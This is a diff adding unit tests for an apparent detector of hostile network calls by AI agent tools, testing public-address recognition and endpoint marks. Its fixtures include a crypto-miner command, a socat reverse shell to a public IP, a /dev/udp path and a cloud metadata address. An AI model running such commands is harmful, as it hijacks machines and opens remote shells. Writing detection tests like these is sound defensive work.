@@ -19,6 +19,7 @@ from gated.engine.known_names import (
     egress_call,
     endpoint_kind,
     path_place,
+    public_address,
     sensitive_file,
 )
 from gated.engine.tokenizer import source_batch
@@ -441,6 +442,54 @@ def test_the_endpoint_marks_name_the_kind_alone_and_with_tool_and_method() -> No
     assert structured_features(plain, None, n, 0.0, 0.0, endpoint_scale=0.7)[0].size == 0
     hostile = _call("shell.exec", cmd=" ".join(["http://169.254.169.254/"] * 5000))
     assert structured_features(hostile, None, n, 0.0, 0.0, endpoint_scale=0.7)[0].size == 2
+
+
+def test_a_public_address_is_one_of_the_internets_anywhere_in_a_token() -> None:
+    """`public_address`: a dotted quad inside any token (a miner's pool, socat's target, a
+    /dev/tcp path, a URL) or a whole-token IPv6 address, when the internet routes it; a
+    loopback, private, link-local, shared or documentation address, a version string, an
+    octet over 255 or a host name is not one."""
+    for token in ("146.75.143.199:6666", "tcp:23.61.2.54:5555", "/dev/udp/23.220.74.132/6666",
+                  "8.8.8.8", "http://8.8.8.8/x", "user@45.33.32.156", "[2606:4700::1111]",
+                  "http://[2606:4700::1111]:80/x", "2001:4860:4860::8888"):
+        assert public_address(token), token
+    for token in ("127.0.0.1:5000", "10.0.0.7", "192.168.1.20:22", "169.254.169.254",
+                  "100.64.0.1", "203.0.113.9", "1.2.3.4.5", "v2.0.1", "999.1.1.1",
+                  "pool.ledger.xyz:3333", "localhost:3000", "fd00:ec2::254", "::1", "abc:def",
+                  "a:b:c", "", "9" * 5000):
+        assert not public_address(token), token[:40]
+
+
+def test_the_endpoint_marks_kind_address_names_a_public_address_in_any_tool() -> None:
+    """`endpoint_addresses`: a token holding a public address gets the endpoint marks of
+    kind ``address`` (alone and with tool and method), in a shell command as in a URL, once
+    however many addresses; a private address gets none; off, as before. The model's
+    batch carries it when `ModelConfig.wide_endpoint_addresses` is on and not when off."""
+    n = 1 << 16
+
+    def marks(context: str, on: bool = True) -> list[int]:
+        return sorted(structured_features(context, None, n, 0.0, 0.0, endpoint_scale=0.7,
+                                          endpoint_addresses=on)[0].tolist())
+
+    def kind(k: str, tool: str, method: str = "") -> list[int]:
+        return sorted([_bucket(f"e|{k}", n), _bucket(f"e|{tool}|{method}|{k}", n)])
+
+    miner = _call("shell.exec", cmd="./xmrig --donate-level 1 -o 146.75.143.199:6666")
+    assert marks(miner) == kind("address", "shell.exec")
+    two = _call("shell.exec", cmd="socat tcp:23.61.2.54:5555 exec:/bin/sh; ping 8.8.8.8")
+    assert marks(two) == kind("address", "shell.exec")
+    post = _call("http.request", method="POST", url="http://45.33.32.156:2375/containers")
+    assert marks(post) == sorted(kind("address", "http.request", "POST")
+                                 + kind("metadata", "http.request", "POST"))
+    assert marks(_call("shell.exec", cmd="nc -zv 10.0.0.7 5432")) == []
+    assert marks(miner, on=False) == []
+    assert marks(post, on=False) == kind("metadata", "http.request", "POST")
+    mark = _bucket("e|address", ModelConfig.flint().wide_buckets)
+    on = ModelConfig.flint()
+    off = dataclasses.replace(on, wide_endpoint_addresses=False)
+    assert on.wide_endpoint_addresses
+    assert mark in source_batch([(miner, None)], on)["wide_idx"][0]
+    assert mark not in source_batch([(miner, None)], off)["wide_idx"][0]
 
 
 def test_every_blocked_endpoint_of_the_traffic_pools_has_its_mark() -> None:
